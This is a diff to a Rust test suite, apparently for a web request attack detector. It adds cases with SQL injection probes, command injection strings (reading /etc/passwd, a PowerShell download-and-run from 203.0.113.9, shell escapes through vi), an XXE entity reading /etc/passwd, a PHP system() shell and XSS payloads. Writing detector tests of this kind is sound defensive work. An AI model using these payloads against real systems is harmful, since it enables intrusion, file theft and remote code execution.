@@ -230,6 +230,8 @@ fn sql_fragments_count_from_paranoia_two() {
         "q=%27%20or%20abc!",       // a quote closed first, a boolean operator, one operand
         "q=%27msdasql%27",         // a SQL Server data provider named alone
         "q=if(7%3D7)%20select%207%20else%20drop%20function%20x--", // a T-SQL IF statement
+        "q=select%20pg_sleep",     // a delay probe named before its arguments
+        "q=procedure%20analyse%20(", // MySQL's error probe
     ] {
         let request = query(q);
         if attack_at(&request, 1) || !attack_at(&request, 2) {
@@ -270,7 +272,8 @@ fn sql_fragments_count_from_paranoia_two() {
         "q=gallery%3D1%3D5",        // a parameter echoed in a link
         "q=If%20(possible)%20select%20the%20blue%20one",
         "q=OpenQuery%20is%20a%20feature",
-        "q=or%20what%3F", // a question, not a dangling operator
+        "q=or%20what%3F",    // a question, not a dangling operator
+        "q=pg_sleeping_bag", // a name that only starts like a probe
         "q=and%20why%3F",
     ] {
         if attack_at(&query(q), 2) {
@@ -456,6 +459,8 @@ fn command_injection_techniques() {
         "x=cat%20%24%7BHOME%3A0%3A1%7Detc%24%7BHOME%3A0%3A1%7Dpasswd", // `/` cut from $HOME
         "host=127.0.0.1%3B%20sleep%2010", // the delay of a blind injection
         "x=powershell%20IEX(New-Object%20Net.WebClient).DownloadString(%27http://203.0.113.9/a%27)",
+        "x=vi%20-c%20%27%3A!sh%27", // vi's start-up command runs a shell
+        "code=%3Bvi%20x%20%2Bsilent%5C%20%5C!whoami%20%2Bwq",
     ] {
         assert_attack(query(q), "cmdi");
     }
@@ -794,6 +799,69 @@ fn other_injections() {
         "sqlmap/1.7.2#stable (https://sqlmap.org)".into(),
     ));
     assert_attack(scan, "scanner");
+}
+
+fn xml(body: &str) -> Request {
+    Request {
+        method: "POST".into(),
+        path: "/soap".into(),
+        headers: vec![("Content-Type".into(), "text/xml; charset=utf-8".into())],
+        body: body.into(),
+        ..Request::default()
+    }
+}
+
+#[test]
+fn xml_documents_are_judged_by_their_values_and_what_markup_can_do() {
+    // Ordinary documents: a declaration, namespaces, a feed's `<link>`, entities, CDATA.
+    assert_clean(xml(
+        r#"<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice xmlns="http://example.com/stock"><Item>Apples &amp; Pears</Item><Note>It's 5 -- cheap; order now</Note></GetPrice></soap:Body></soap:Envelope>"#,
+    ));
+    assert_clean(xml(
+        r#"<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="feed.xsl"?><rss version="2.0"><channel><title>Where's the beef?</title><link>https://example.com/a?id=1&amp;b=2</link><description><![CDATA[<p>Hello <b>world</b></p>]]></description></channel></rss>"#,
+    ));
+    // Injections in its values, as in any parameter.
+    for (body, category) in [
+        (
+            r#"<order><id>1' union select password from users--</id></order>"#,
+            "sqli",
+        ),
+        (
+            r#"<order note="x;cat /etc/passwd"><id>1</id></order>"#,
+            "cmdi",
+        ),
+        (
+            r#"<a><b><![CDATA[<script>alert(1)</script>]]></b></a>"#,
+            "xss",
+        ),
+        (r#"<a><b>ja&amp;tab;vascript:alert(1)</b></a>"#, "xss"), // entities resolved first
+        // What markup alone does: entities, external schemas, processing instructions,
+        // script elements and event handlers.
+        (
+            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
+            "xxe",
+        ),
+        (
+            r#"<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://203.0.113.9/s.xsd"/>"#,
+            "xxe",
+        ),
+        (
+            r#"<?xml version="1.0"?><r><?php system($_GET['c']); ?></r>"#,
+            "php_injection",
+        ),
+        (
+            r#"<r><x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script></r>"#,
+            "xss",
+        ),
+        (
+            r#"<svg xmlns="http://www.w3.org/2000/svg" onload="go()"/>"#,
+            "xss",
+        ),
+        // Not well-formed: the body is one value, judged as text.
+        ("<img src=x onerror=alert(1)>", "xss"),
+    ] {
+        assert_attack(xml(body), category);
+    }
 }
 
 #[test]
